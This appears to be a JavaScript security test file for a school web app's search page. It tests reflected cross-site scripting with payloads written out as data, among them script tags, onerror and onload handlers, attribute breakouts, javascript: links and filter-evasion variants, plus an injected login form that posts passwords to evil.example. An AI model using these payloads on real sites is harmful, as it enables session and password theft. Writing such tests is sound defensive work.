// Each attack is a link that a pupil gets in a message. `steal(…)` stands for whatever the attacker's script does with
// the session of whoever opens it.
const open = (q) => request(app, 'GET', '/search?q=' + encodeURIComponent(q));

async function runs(...inputs) {
  for (const input of inputs) {
    const [script] = dom(await open(input)).calls('steal');
    if (script) return breached(true, `its own script run by the pupil's browser, in ${script.where}`);
  }
  return breached(false);
}

attack('a script element stands in the heading', { input: '<script>steal(document.cookie)</script>' }, () =>
  runs('<script>steal(document.cookie)</script>'));

attack('no script element is needed: a picture that does not load', { input: '<img src=x onerror=steal(document.cookie)>' }, () =>
  runs('<img src=x onerror=steal(document.cookie)>', '<svg onload=steal(document.cookie)>'));

attack('no angle bracket is needed: a quote ends the value of the field', { input: '" autofocus onfocus="steal(document.cookie)' }, () =>
  runs('" autofocus onfocus="steal(document.cookie)', "' autofocus onfocus='steal(document.cookie)"));

attack('the address of a link is code', { input: '<a href="javascript:steal(document.cookie)">All results</a>' }, () =>
  runs('<a href="javascript:steal(document.cookie)">All results</a>', '<a href="java&Tab;script:steal(document.cookie)">All results</a>'));

attack('filters are fooled: capital letters, nested words, tags that never end', { input: '<scr<script></script>ipt>steal(1)</scr<script></script>ipt>' }, () =>
  runs(
    '<ScRiPt>steal(1)</sCrIpT>',
    '<scr<script></script>ipt>steal(1)</scr<script></script>ipt>',
    '<scr<script>ipt>steal(1)</scr</script>ipt>',
    '<img src=x oNeRrOr=steal(1) ',
    '<svg/onload=steal(1)>',
  ));

attack('no script at all: a log-in form of the attacker, on the school\'s own page', { input: '</h1><form action="https://evil.example">Please log in again: <input name="password"></form>' }, async () => {
  const page = dom(await open('</h1><form action="https://evil.example">Please log in again: <input name="password"></form>'));
  const forged = page.all('form').some((form) => String(form.attributes.action).startsWith('https://evil.example'));
  return breached(forged, 'the password of every pupil who believes the form');
});

attack('nobody attacks at all: a pupil puts the title in quotation marks', { input: '"Faust"' }, async () => {
  const field = dom(await open('"Faust"')).find('input');
  return breached(!field || field.attributes.value !== '"Faust"', 'a page that has lost the words, and takes the rest of them for attributes');
});
